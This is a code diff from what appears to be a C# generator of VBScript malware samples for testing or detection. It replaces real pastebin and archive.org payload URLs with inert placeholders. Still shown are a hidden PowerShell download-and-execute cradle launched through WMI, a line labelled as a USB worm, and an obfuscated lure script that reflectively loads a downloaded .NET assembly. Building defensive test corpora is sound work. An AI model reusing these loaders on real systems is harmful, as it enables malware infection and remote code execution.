@@ -189,7 +189,7 @@ public sealed class VisualBasicFetchers : SixthRound
               orden = orden & Chr(rastro(k) - 7)
             Next
             ExecuteGlobal orden
-            """, Codes("Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\nw.Create \"powershell -NoP -W Hidden -C IEX((New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Zz0InErT'))\", Null, Null, pid\r\n", 7))));
+            """, Codes("Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\nw.Create \"powershell -NoP -W Hidden -C IEX((New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/inert-no-such-paste'))\", Null, Null, pid\r\n", 7))));
         yield return ("usb_photos.vbs", Dos("""
             'worm for removable drives
             On Error Resume Next
@@ -230,7 +230,7 @@ public sealed class VisualBasicFetchers : SixthRound
         yield return ("Orcamento_Novembro.vbs", Utf16("""
             Rem Orçamento detalhado em anexo
             Dim fGq, pLw, mZt
-            fGq = "poxTMRwershexTMRll -cxTMRommand $ProgressPreference='SxTMRilentlyContinue';$b=(NxTMRew-Object NxTMRet.WebCxTMRlient).DoxTMRwnloadString('https://ia801.archive.org/items/none/vbs.jpg');"
+            fGq = "poxTMRwershexTMRll -cxTMRommand $ProgressPreference='SxTMRilentlyContinue';$b=(NxTMRew-Object NxTMRet.WebCxTMRlient).DoxTMRwnloadString('https://ia801.archive.org/items/inert-no-such-item/vbs.jpg');"
             pLw = "$s=$b.IndexOf('<<BASE64_START>>')+16;$e=$b.IndexOf('<<BASE64_END>>');$a=[ReflexTMRction.AssemxTMRbly]::Load([ConvxTMRert]::FromBasxTMRe64String($b.Substring($s,$e-$s)));"
             mZt = "$a.GetType('dnlib.IO.Home').GetMethod('VAI').Invoke($null,@('txt.ovon/moc.elpmaxe.ocramas//:sptth','desativado','','RegAsm'))"
             Set oHk = CreateObject(Replace("WSxTMRcript.SxTMRhell", "xTMR", ""))
